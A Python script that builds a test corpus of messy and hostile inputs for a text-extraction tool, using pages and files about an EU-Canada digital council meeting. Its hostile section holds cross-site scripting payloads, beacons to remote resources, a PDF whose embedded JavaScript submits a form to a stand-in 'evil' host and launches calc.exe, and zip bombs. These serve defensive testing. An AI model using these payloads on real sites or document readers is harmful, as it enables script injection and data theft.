#!/usr/bin/env python3
"""Writes the messy-input corpus of tests/corpus/ (run from anywhere; deterministic).

Each file is one kind of real-world or hostile input; tests/corpus.rs runs them through the
command line and e2e/hostile.spec.mjs drops the hostile ones onto the page. README.md says
what each file is and what must happen to it.
"""
import os
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))

FR = ("Le Conseil de partenariat numérique UE–Canada s’est réuni à Bruxelles le 8 décembre 2025. "
      "Les ministres ont salué les progrès accomplis en matière d’intelligence artificielle, "
      "de semi-conducteurs et de câbles sous-marins.\n\n"
      "La prochaine réunion aura lieu au Canada en 2026, a précisé la Commission européenne.\n")
EN = ("The EU-Canada Digital Partnership Council met in Brussels on 8 December 2025. "
      "Ministers welcomed progress on artificial intelligence, semiconductors and submarine cables.\n\n"
      "The next meeting will take place in Canada in 2026, the European Commission said.\n")


def write(name, data):
    path = os.path.join(HERE, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(path, "wb") as f:
        f.write(data)


def main():
    # --- encodings and line endings -------------------------------------------------
    write("text/partner.txt", EN)
    write("text/utf8-bom.txt", b"\xef\xbb\xbf" + FR.encode("utf-8"))
    write("text/utf16le-bom.txt", b"\xff\xfe" + FR.encode("utf-16-le"))
    write("text/utf16be-bom.txt", b"\xfe\xff" + FR.encode("utf-16-be"))
    write("text/windows-1252-fr.txt", FR.replace("–", "-").encode("cp1252"))
    write("text/crlf.txt", EN.replace("\n", "\r\n").encode())
    write("text/cr-only.txt", EN.replace("\n", "\r").encode())
    write("text/empty.txt", b"")
    write("text/whitespace-only.txt", b"  \r\n\t\n")

    # --- binary and unsupported ------------------------------------------------------
    write("refused/nul-bytes.txt", EN.encode()[:60] + b"\x00\x00\x01\x02" + EN.encode()[60:])
    write("refused/png-named.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89")
    write("refused/old-word.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    write("refused/truncated.docx", zip_bytes({"word/document.xml": DOCX_XML})[:120])
    write("refused/spreadsheet.docx", zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}))
    write("refused/damaged.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    bomb = zip_bytes({"word/document.xml": "<w:document>" + " " * (80 * 1024 * 1024) + "</w:document>"})
    write("refused/zip-bomb.docx", bomb)
    write("refused/zip-bomb-lying.docx", lie_about_size(bomb))

    # --- structured formats ----------------------------------------------------------
    write("formats/article.md", MARKDOWN)
    write("formats/report.docx", zip_bytes({
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": DOCX_XML,
        "word/styles.xml": STYLES_XML,
    }))
    write("formats/statement.pdf", pdf_bytes([
        "EU-Canada Digital Partnership Council",
        "The Council met in Brussels on 8 December 2025.",
        "Ministers welcomed progress on artificial intelligence.",
    ]))
    # A page with drawing and no text layer, as a scanner makes.
    write("refused/scanned.pdf", pdf_bytes([], content="0.5 g 72 72 468 648 re f\n"))
    password = encrypted_pdf(pdf_bytes(["The Council met in Brussels on 8 December 2025."]))
    if password:
        write("refused/password.pdf", password)
    write("hostile/pdf-actions.pdf", pdf_with_actions())
    write("formats/news-page.html", NEWS_PAGE)
    write("formats/latin1-page.html", LATIN1_PAGE.encode("cp1252"))

    # --- hostile ---------------------------------------------------------------------
    for name, body in HOSTILE.items():
        write("hostile/" + name, body)


def zip_bytes(files):
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in files.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 12, 8, 12, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, content)
    return buf.getvalue()


def lie_about_size(zip_data):
    """The same zip with its central directory and local header claiming 1,000 bytes unpacked."""
    import struct
    data = bytearray(zip_data)
    cd = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, 1000)
    struct.pack_into("<I", data, 22, 1000)  # local header of the first entry
    return bytes(data)


def pdf_bytes(lines, catalog="", page="", objects=(), content=None):
    """A minimal valid PDF with one page of Helvetica text, one line per paragraph.

    `catalog` and `page` add entries to those dictionaries; `objects` are more objects,
    numbered from 6; `content` replaces the page's text with a content stream of its own.
    """
    stream = "BT /F1 12 Tf 72 720 Td 16 TL\n"
    for i, line in enumerate(lines):
        stream += "(%s) Tj T* T*\n" % line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    stream += "ET\n"
    if content is not None:
        stream = content
    objects = [
        "<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s>>" % page,
        "<< /Length %d >>\nstream\n%sendstream" % (len(stream), stream),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ] + list(objects)
    out = b"%PDF-1.4\n"
    offsets = []
    for i, obj in enumerate(objects, 1):
        offsets.append(len(out))
        out += ("%d 0 obj\n%s\nendobj\n" % (i, obj)).encode("latin-1")
    xref = len(out)
    out += ("xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)).encode()
    for off in offsets:
        out += ("%010d 00000 n \n" % off).encode()
    out += ("trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)).encode()
    return out


def pdf_with_actions():
    """A PDF that tries everything a PDF can: JavaScript on open and on page open, a
    javascript: link, a launch action, a form submission to a remote address, remote
    content. A reader that only takes the text must do none of it."""
    js = "app.alert('pdf script ran'); this.submitForm('https://evil.example.invalid/steal');"
    return pdf_bytes(
        ["The Council met in Brussels on 8 December 2025.",
         "Ministers welcomed progress on artificial intelligence."],
        catalog="/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> "
                "/AcroForm << /Fields [] >> ",
        page="/Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> ",
        objects=[
            "<< /Type /Action /S /JavaScript /JS (%s) >>" % js.replace("(", "\\(").replace(")", "\\)"),
            "<< /Type /Annot /Subtype /Link /Rect [72 700 400 720] "
            "/A << /S /URI /URI (javascript:app.alert\\('link'\\)) >> >>",
            "<< /Type /Annot /Subtype /Link /Rect [72 660 400 680] "
            "/A << /S /Launch /F (calc.exe) /NewWindow true >> >>",
        ])


def encrypted_pdf(plain):
    """`plain` encrypted with a user password (RC4, so pypdf needs no crypto library), or
    None when pypdf is not installed (the committed file is kept). pypdf adds a random
    document id, so this file changes each time it is written."""
    try:
        import io
        from pypdf import PdfReader, PdfWriter
    except ImportError:
        return None
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
                 '</Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        '</Relationships>')
STYLES_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              f'<w:styles {W}>'
              '<w:style w:type="paragraph" w:styleId="Titre1"><w:name w:val="heading 1"/></w:style>'
              '<w:style w:type="paragraph" w:styleId="Normal"><w:name w:val="Normal"/></w:style>'
              '</w:styles>')
DOCX_XML = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<w:document {W}><w:body>'
            '<w:p><w:pPr><w:pStyle w:val="Titre1"/></w:pPr><w:r><w:t>Conseil de partenariat numérique</w:t></w:r></w:p>'
            '<w:p><w:r><w:t xml:space="preserve">Le Conseil s’est réuni à Bruxelles </w:t></w:r>'
            '<w:del w:id="1" w:author="x"><w:r><w:delText>hier </w:delText></w:r></w:del>'
            '<w:r><w:t>le 8 décembre 2025 &amp; a adopté</w:t><w:tab/><w:t>une déclaration.</w:t></w:r></w:p>'
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>Intelligence artificielle</w:t></w:r></w:p>'
            '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>Câbles sous-marins</w:t></w:r></w:p>'
            '<w:p/>'
            '<w:p><w:r><w:t>La prochaine réunion aura lieu au Canada en 2026.</w:t></w:r></w:p>'
            '</w:body></w:document>')

MARKDOWN = """---
title: front matter is not compared
---
# EU–Canada Digital Partnership Council

The Council met in **Brussels** on 8 December 2025, [the Commission](https://example.invalid/) said.

## What was agreed

- cooperation on *artificial intelligence*
- secure `submarine` cables
1. a third item

> The next meeting will take place in Canada in 2026.

<div onclick="alert(1)">raw html is not compared</div>

![a photo](photo.jpg)
"""

NEWS_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>EU and Canada deepen digital partnership | The Daily Courier</title>
<link rel="stylesheet" href="https://cdn.example.invalid/site.css">
<script src="https://ads.example.invalid/tag.js"></script>
<script>window.dataLayer = []; document.cookie = "tracked=1";</script>
<style>.cookie{position:fixed}</style>
</head><body>
<div class="cookie-banner" id="cookie-consent"><p>We use cookies to improve your experience. <a href="/privacy">Privacy policy</a></p><button>Accept all</button><button>Reject</button></div>
<header class="site-header"><a href="/" class="logo">The Daily Courier</a>
<nav class="menu"><ul><li><a href="/world">World</a></li><li><a href="/business">Business</a></li><li><a href="/tech">Technology</a></li><li><a href="/sport">Sport</a></li><li><a href="/opinion">Opinion</a></li></ul></nav></header>
<main><article class="story">
<h1>EU and Canada deepen digital partnership</h1>
<p class="byline">By A. Reporter, 8 December 2025</p>
<p>The EU-Canada Digital Partnership Council met in Brussels on 8 December 2025, bringing together ministers and commissioners responsible for digital policy on both sides of the Atlantic.</p>
<p>Ministers welcomed progress on artificial intelligence, semiconductors and submarine cables, and agreed to deepen cooperation between their AI safety institutes over the coming year.</p>
<h2>Connectivity and research</h2>
<p>Both sides said they would work together on secure and resilient connectivity, including submarine cables linking Europe and North America, and on joint research in quantum technologies.</p>
<ul><li>A joint call for research projects on quantum sensing will open in 2026.</li><li>An expert group on submarine cable security will report before the next meeting.</li></ul>
<p>The next meeting will take place in Canada in 2026, the European Commission said in a statement after the talks.</p>
<div class="ad-slot"><iframe src="https://ads.example.invalid/frame"></iframe></div>
</article>
<aside class="related"><h3>Most read</h3><ul><li><a href="/a">Ten things you missed this week</a></li><li><a href="/b">Weather: storm warning</a></li></ul></aside>
<section class="comments"><h3>Leave a Comment</h3><form><textarea></textarea><button>Post</button></form></section>
</main>
<footer><p>© 2025 The Daily Courier. All rights reserved.</p><ul><li><a href="/about">About us</a></li><li><a href="/contact">Contact</a></li><li><a href="/subscribe">Subscribe</a></li></ul></footer>
<script>console.log("analytics")</script>
</body></html>
"""

LATIN1_PAGE = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">
<title>Réunion du Conseil</title></head><body>
<p>Le Conseil de partenariat numérique s'est réuni à Bruxelles le 8 décembre 2025 ; les ministres ont salué les progrès accomplis en matière d'intelligence artificielle et de semi-conducteurs.</p>
<p>La prochaine réunion aura lieu au Canada en 2026, a précisé la Commission européenne dans un communiqué publié à l'issue des discussions.</p>
</body></html>
"""

PWN = "window.__pwned = (window.__pwned || 0) + 1; alert('pwned')"
HOSTILE = {
    "script-tags.html": f"""<!doctype html><html><head><title>Script tags</title>
<script>{PWN}</script><script src="https://evil.example.invalid/x.js"></script>
<meta http-equiv="refresh" content="0; url=https://evil.example.invalid/">
<base href="https://evil.example.invalid/"></head>
<body onload="{PWN}"><article><h1>Script tags</h1>
<p>The Council met in Brussels on 8 December 2025. Ministers welcomed progress on artificial intelligence, semiconductors and submarine cables.</p>
<script>document.write('<img src=x onerror="{PWN}">')</script>
<p>The next meeting will take place in Canada in 2026, the European Commission said.</p></article></body></html>
""",
    "event-handlers.html": f"""<!doctype html><html><head><title>Event handlers</title></head><body>
<article><h1 onmouseover="{PWN}">Event handlers</h1>
<p onclick="{PWN}">The Council met in Brussels on 8 December 2025 and ministers welcomed progress on artificial intelligence.</p>
<img src="x" onerror="{PWN}"><img src="https://evil.example.invalid/pixel.gif">
<video><source onerror="{PWN}"></video><details open ontoggle="{PWN}"><summary>More</summary>Details text.</details>
<p><a href="javascript:{PWN}">A javascript: link</a> and <a href="data:text/html,<script>{PWN}</script>">a data: link</a>.</p>
<form action="javascript:{PWN}"><input autofocus onfocus="{PWN}"></form>
<p>The next meeting will take place in Canada in 2026, the European Commission said.</p></article></body></html>
""",
    "remote-resources.html": """<!doctype html><html><head><title>Remote resources</title>
<link rel="stylesheet" href="https://evil.example.invalid/a.css"><link rel="preload" href="https://evil.example.invalid/b.js" as="script">
<link rel="icon" href="https://evil.example.invalid/favicon.ico"><link rel="prefetch" href="https://evil.example.invalid/c">
<style>@import url(https://evil.example.invalid/d.css); body { background: url(https://evil.example.invalid/bg.png) }
@font-face { font-family: x; src: url(https://evil.example.invalid/f.woff2) }</style></head><body>
<article><h1>Remote resources</h1>
<p>The Council met in Brussels on 8 December 2025 and ministers welcomed progress on submarine cables.</p>
<img src="https://evil.example.invalid/img.png" srcset="https://evil.example.invalid/img2.png 2x" loading="eager">
<iframe src="https://evil.example.invalid/frame.html"></iframe><object data="https://evil.example.invalid/o.swf"></object>
<embed src="https://evil.example.invalid/e.swf"><audio src="https://evil.example.invalid/a.mp3" autoplay></audio>
<picture><source srcset="https://evil.example.invalid/p.webp"><img src="https://evil.example.invalid/p.jpg"></picture>
<p style="background:url(https://evil.example.invalid/inline.png)">The next meeting will take place in Canada in 2026.</p></article></body></html>
""",
    "svg-script.html": f"""<!doctype html><html><head><title>SVG with script</title></head><body><article>
<h1>SVG with script</h1>
<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script>
<image href="https://evil.example.invalid/svg.png"/><a href="javascript:{PWN}"><text>click</text></a>
<foreignObject><iframe src="javascript:{PWN}"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></mglyph></table></mtext></math>
<p>The Council met in Brussels on 8 December 2025 and ministers welcomed progress on artificial intelligence.</p>
<p>The next meeting will take place in Canada in 2026, the European Commission said.</p></article></body></html>
""",
    "drawing.svg": f"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}">
<script>{PWN}</script><image href="https://evil.example.invalid/svg.png"/><text>The Council met in Brussels.</text></svg>
""",
    "markdown-html.md": f"""# Markdown with HTML

The Council met in Brussels on 8 December 2025. <img src=x onerror="{PWN}">

<script>{PWN}</script>

[a javascript: link](javascript:{PWN}) and ![remote](https://evil.example.invalid/md.png)

- The next meeting will take place in Canada in 2026.
""",
    "mutation-xss.html": f"""<!doctype html><html><body><article><h1>Mutation XSS</h1>
<p>The Council met in Brussels on 8 December 2025 and ministers welcomed progress on artificial intelligence.</p>
<noscript><p title="</noscript><img src=x onerror={PWN}>"></p></noscript>
<template><img src=x onerror="{PWN}"></template>
<textarea><img src=x onerror="{PWN}"></textarea><title><img src=x onerror="{PWN}"></title>
<p>&lt;script&gt;{PWN}&lt;/script&gt; is text, not markup.</p>
<p>The next meeting will take place in Canada in 2026, the European Commission said.</p></article></body></html>
""",
}

if __name__ == "__main__":
    main()
